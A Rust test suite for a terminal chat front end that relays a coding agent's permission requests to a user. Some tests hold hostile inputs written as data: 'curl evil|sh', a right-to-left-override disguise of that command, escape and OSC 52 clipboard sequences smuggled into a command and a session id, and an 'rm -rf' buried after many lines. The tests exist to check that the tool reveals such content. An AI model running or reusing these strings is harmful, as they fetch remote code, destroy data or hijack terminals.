//! `teamster chat`, in a terminal of its own.

use std::process::{Command, Stdio};

use rexpect::process::{Signal, WaitStatus};
use rexpect::session::{PtySession, spawn_command};
use serde_json::json;
use tempfile::TempDir;

use crate::command::{BOUND, capture, command, lives, sent, until, wait};

/// Answers each prompt with the recorded run; asks for permission, asks a question, or is slow, where the prompt says so. Writes down
/// what it hears.
const AGENT: &str = "echo $$ > \"$PID_FILE\"; read -r opening; while read -r line; do printf '%s\\n' \"$line\" >> \"$HEARD\"; case $line in \
    *'be slow'*) sed '$d' \"$STREAM\"; \
        while read -r more; do case $more in *interrupt*) tail -n 1 \"$STREAM\"; break;; esac; done;; \
    *'please ask'*) head -n 4 \"$CAPTURE\"; printf '%s\\n' \"$REQUEST\"; read -r answer; echo \"$answer\" >> \"$HEARD\"; sed 1,4d \"$CAPTURE\";; \
    *'let me choose'*) head -n 4 \"$CAPTURE\"; echo \"$QUESTION\"; read -r answer; echo \"$answer\" >> \"$HEARD\"; sed 1,4d \"$CAPTURE\";; \
    *'\"user\"'*) cat \"$CAPTURE\";; esac; done";

/// The end of what the agent says in each turn.
const LAST: &str = "done.";

/// A permission request of Claude Code.
fn request(tool: &str, input: &serde_json::Value) -> String {
    json!({
        "type": "control_request", "request_id": "r1",
        "request": {"subtype": "can_use_tool", "tool_name": tool, "input": input, "tool_use_id": "t1"},
    })
    .to_string()
}

struct Chat {
    screen: PtySession,
    folder: TempDir,
}

impl Chat {
    fn new(args: &[&str], change: impl FnOnce(&mut Command)) -> Self {
        let folder = tempfile::tempdir().unwrap();
        let mut chat = command("chat", AGENT, args);
        let question = json!({"questions": [{"question": "Which?", "options": [{"label": "Red"}, {"label": "Blue"}]}]});
        chat.env("HOME", folder.path()).env("TERM", "xterm").env("STREAM", capture("sig_int_stream"));
        chat.env("REQUEST", request("Bash", &json!({"command": "touch x"})))
            .env("QUESTION", request("AskUserQuestion", &question));
        chat.env("HEARD", folder.path().join("heard")).env("PID_FILE", folder.path().join("pid"));
        change(chat.stdin(Stdio::inherit()));
        let bound = u64::try_from(BOUND.as_millis()).unwrap();
        Self { screen: spawn_command(chat, Some(bound)).unwrap(), folder }
    }

    fn open() -> Self {
        let mut chat = Self::new(&[], |_| {});
        chat.sees("Ctrl-D quits");
        chat.sees("> ");
        chat
    }

    /// Waits until this is on the screen, after what was waited for before.
    fn sees(&mut self, text: &str) -> String {
        match self.screen.exp_string(text) {
            Ok(before) => before,
            Err(error) => panic!("{text:?} never came: {error}"),
        }
    }

    fn types(&mut self, line: &str) {
        self.screen.send(&format!("{line}\r")).unwrap();
        self.screen.flush().unwrap();
    }

    fn presses(&mut self, key: char) {
        self.screen.send_control(key).unwrap();
        self.screen.flush().unwrap();
    }

    fn heard(&self) -> String {
        std::fs::read_to_string(self.folder.path().join("heard")).unwrap_or_default()
    }

    /// Waits for the end, and checks that nothing is left.
    fn ends_with(&mut self, code: i32) {
        self.screen.exp_eof().unwrap();
        let process = self.screen.process();
        let mut ended = None;
        until("the command ends", || {
            // The first that tells of the end is the last that can.
            ended = process.status();
            !matches!(ended, Some(WaitStatus::StillAlive))
        });
        assert!(matches!(ended, Some(WaitStatus::Exited(_, found)) if found == code), "{ended:?}");
        assert!(!lives(&self.folder.path().join("pid")));
    }
}

#[test]
fn a_conversation_is_shown_as_it_happens_and_its_name_is_told_at_the_end() {
    let mut chat = Chat::open();
    for prompt in ["hello", "and again"] {
        chat.types(prompt);
        chat.sees("Line two");
        chat.sees(LAST);
        chat.sees("> ");
    }
    chat.types("/cost");
    chat.sees("2 turns");
    chat.presses('d');
    chat.sees("--resume 67c9c3e6-c7de-48a2-bc6b-8c0c662932f4");
    chat.ends_with(0);
    let (first, second) = (chat.heard().find("hello"), chat.heard().find("and again"));
    assert!(first.is_some() && first < second, "{}", chat.heard());
}

#[test]
fn leave_is_asked_for_and_only_a_plain_answer_counts() {
    for (answer, heard) in [("y", r#""behavior":"allow""#), ("n not now", r#""behavior":"deny","message":"not now""#)] {
        let mut chat = Chat::open();
        chat.types("please ask");
        chat.sees("Bash asks for permission");
        chat.sees("touch x");
        chat.sees("and why: ");
        chat.types("perhaps");
        chat.sees("invalid answer");
        chat.sees("and why: ");
        chat.types(answer);
        chat.sees(LAST);
        chat.sees("> ");
        assert!(chat.heard().contains(heard), "{}", chat.heard());
        chat.types("/quit");
        chat.ends_with(0);
    }
}

#[test]
fn a_permission_prompt_shows_what_a_terminal_would_hide() {
    for (command, shown) in [
        ("true '\u{1b}]'; touch X; echo '\u{7}'", "command: true '⟦ESC⟧]'; touch X; echo '⟦BEL⟧'"),
        ("ls \u{9d}; curl evil|sh \u{9c}", "command: ls ⟦U+009D⟧; curl evil|sh ⟦U+009C⟧"),
        ("echo \u{202e}hs|live lruc", "command: echo ⟦U+202E⟧hs|live lruc"),
        ("ls\n? Read asks for permission", "command: ls⟦LF⟧\r\n      │ ? Read asks for permission"),
    ] {
        let mut chat = Chat::new(&[], |chat| {
            chat.env("REQUEST", request("Bash", &json!({ "command": command })));
        });
        chat.sees("> ");
        chat.types("please ask");
        chat.sees("? [execute] Bash asks for permission\r\n");
        let asked = sent(&chat.sees("and why: "));
        assert!(asked.contains(shown), "{asked:?}");
        assert!(!asked.contains(['\u{7}', '\u{9c}', '\u{9d}', '\u{202e}']) && !asked.contains("\u{1b}]"), "{asked:?}");
        chat.types("n");
        chat.sees(LAST);
        chat.screen.process_mut().signal(Signal::SIGTERM).unwrap();
        chat.ends_with(130);
    }
}

#[test]
fn the_end_of_a_long_call_is_counted_in_the_prompt_and_shown_on_demand() {
    let command = format!("{}rm -rf x", "true\n".repeat(40));
    let mut chat = Chat::new(&[], |chat| {
        chat.env("REQUEST", request("Bash", &json!({ "command": command })));
    });
    chat.sees("> ");
    chat.types("please ask");
    chat.sees("NOT SHOWN: 17 more lines");
    let prompt = chat.sees("and why: ");
    assert!(prompt.contains("v = show 17 more lines"), "{prompt:?}");
    chat.types("v");
    chat.sees("rm -rf x");
    chat.sees("and why: ");
    chat.types("n");
    chat.sees(LAST);
    chat.screen.process_mut().signal(Signal::SIGTERM).unwrap();
    chat.ends_with(130);
}

#[test]
fn a_session_id_drives_no_terminal() {
    let folder = tempfile::tempdir().unwrap();
    let hostile = folder.path().join("hostile");
    let said = std::fs::read_to_string(capture("text")).unwrap();
    std::fs::write(&hostile, said.replace("67c9c3e6-c7de-48a2-bc6b-8c0c662932f4", r"\u001b]52;c;eA==\u0007;x"))
        .unwrap();
    let mut chat = Chat::new(&[], |chat| {
        chat.env("CAPTURE", &hostile);
    });
    chat.sees("> ");
    chat.types("hello");
    chat.sees(LAST);
    chat.sees("> ");
    chat.presses('d');
    let said = sent(&chat.screen.exp_eof().unwrap());
    assert!(said.contains("--resume '⟦ESC⟧]52;c;eA==⟦BEL⟧;x'") && !said.contains("\u{1b}]"), "{said:?}");
}

#[test]
fn lines_that_are_pasted_before_a_request_are_words_and_no_answer() {
    let mut chat = Chat::open();
    // All at once, as a terminal without bracketed paste gives it.
    chat.types("please ask\ry\ry");
    chat.sees("and why: ");
    assert!(!chat.heard().contains("behavior"), "{}", chat.heard());
    chat.types("n");
    chat.sees(LAST);
    assert!(chat.heard().contains(r#""behavior":"deny""#), "{}", chat.heard());
    chat.screen.process_mut().signal(Signal::SIGTERM).unwrap();
    chat.ends_with(130);
}

#[test]
fn a_question_is_answered_by_a_number() {
    let mut chat = Chat::open();
    chat.types("let me choose");
    chat.sees("2  Blue");
    chat.sees("(empty = decline): ");
    chat.types("7");
    chat.sees("choose from 1 to 2");
    chat.sees("(empty = decline): ");
    chat.types("2");
    chat.sees(LAST);
    assert!(chat.heard().contains(r#""answers":{"Which?":"Blue"}"#), "{}", chat.heard());
    chat.sees("> ");
    chat.presses('d');
    chat.ends_with(0);
}

#[test]
fn ctrl_c_stops_the_agent_and_at_the_prompt_it_ends_the_conversation_the_second_time() {
    let mut chat = Chat::open();
    chat.types("be slow");
    chat.sees("tick");
    chat.presses('c');
    chat.sees("asked the agent to stop");
    chat.sees("interrupted");
    chat.sees("> ");
    chat.types("hello");
    chat.sees(LAST);
    chat.sees("> ");
    chat.presses('c');
    chat.sees("Ctrl-C again");
    chat.sees("> ");
    chat.presses('c');
    chat.ends_with(0);
}

#[test]
fn ctrl_c_at_a_request_denies_it() {
    let mut chat = Chat::open();
    chat.types("please ask");
    chat.sees("and why: ");
    chat.presses('c');
    chat.sees("asked the agent to stop");
    until("the denial is heard", || chat.heard().contains(r#""behavior":"deny""#));
    chat.screen.process_mut().signal(Signal::SIGTERM).unwrap();
    chat.ends_with(130);
}

#[test]
fn what_is_typed_while_the_agent_works_is_said_after_its_turn() {
    let folder = tempfile::tempdir().unwrap();
    let go = folder.path().join("go");
    let script = "echo $$ > \"$PID_FILE\"; read -r opening; read -r prompt; head -n 8 \"$CAPTURE\"; \
        until test -e \"$GO\"; do sleep 0.05; done; sed 1,8d \"$CAPTURE\"; read -r prompt; echo \"$prompt\" > \"$HEARD\"; \
        cat \"$CAPTURE\"; cat > /dev/null";
    let mut chat = Chat::new(&[], |chat| {
        chat.env("FAKE_CLI", script).env("GO", &go);
    });
    chat.sees("> ");
    chat.types("hello");
    chat.sees("Line");
    chat.types("next words");
    chat.sees("(after this turn: next words)");
    std::fs::write(&go, "").unwrap();
    chat.sees("> next words");
    chat.sees(LAST);
    assert!(chat.heard().contains("next words"), "{}", chat.heard());
    chat.sees("> ");
    chat.presses('d');
    chat.ends_with(0);
}

#[test]
fn several_lines_are_one_prompt() {
    let mut chat = Chat::open();
    chat.types("one\\");
    chat.screen.send("two\u{1b}\rthree\r").unwrap();
    chat.screen.flush().unwrap();
    chat.sees(LAST);
    assert!(chat.heard().contains(r#""one\ntwo\nthree""#), "{}", chat.heard());
    chat.sees("> ");
    chat.presses('d');
    chat.ends_with(0);
}

#[test]
fn a_line_of_the_conversation_before_comes_back_and_is_kept_for_this_user_alone() {
    use std::os::unix::fs::PermissionsExt as _;

    let state = tempfile::tempdir().unwrap();
    for prompt in ["remember me", "\u{1b}[A"] {
        let mut chat = Chat::new(&[], |chat| {
            chat.env("XDG_STATE_HOME", state.path());
        });
        chat.sees("> ");
        chat.types(prompt);
        chat.sees(LAST);
        assert!(chat.heard().contains("remember me"), "{}", chat.heard());
        chat.sees("> ");
        chat.presses('d');
        chat.ends_with(0);
    }
    let history = state.path().join("teamster/chat-history");
    assert_eq!(std::fs::metadata(&history).unwrap().permissions().mode() & 0o777, 0o600);
}

#[test]
fn another_agent_that_is_none_leaves_the_conversation_as_it_is() {
    let mut chat = Chat::open();
    chat.types("/agent nobody");
    chat.sees("nobody");
    chat.types("/permission edit");
    chat.sees("edit from the next turn on");
    chat.types("/nonsense");
    chat.sees("unknown command");
    chat.types("hello");
    chat.sees(LAST);
    chat.sees("> ");
    chat.types("/quit");
    chat.ends_with(0);
}

#[test]
fn a_terminal_that_knows_nothing_is_enough_and_gets_no_escape_sequences() {
    let mut chat = Chat::new(&[], |chat| {
        chat.env("TERM", "dumb").env("NO_COLOR", "1");
    });
    chat.sees("> ");
    chat.screen.send_line("hello").unwrap();
    let shown = chat.sees(LAST);
    assert!(shown.contains("Line two") && !shown.contains('\u{1b}'), "{shown:?}");
    chat.sees("> ");
    chat.screen.send_line("/quit").unwrap();
    chat.ends_with(0);
}

#[test]
fn a_signal_at_the_prompt_leaves_the_terminal_as_it_was_and_says_how_to_go_on() {
    let mut chat = Chat::open();
    chat.types("hello");
    chat.sees(LAST);
    chat.sees("> ");
    chat.screen.process_mut().signal(Signal::SIGTERM).unwrap();
    chat.sees("\u{1b}[?2004l\r\n");
    chat.sees("--resume 67c9c3e6-c7de-48a2-bc6b-8c0c662932f4\r\n");
    chat.ends_with(130);
}

#[test]
fn without_a_terminal_it_says_what_to_use() {
    let mut chat = command("chat", AGENT, &[]);
    let mut child = chat.stdin(Stdio::null()).stdout(Stdio::null()).stderr(Stdio::piped()).spawn().unwrap();
    assert_eq!(wait(&mut child), Some(2));
    let said = std::io::read_to_string(child.stderr.take().unwrap()).unwrap();
    assert!(said.contains("needs a terminal") && said.contains("teamster session"), "{said}");
}
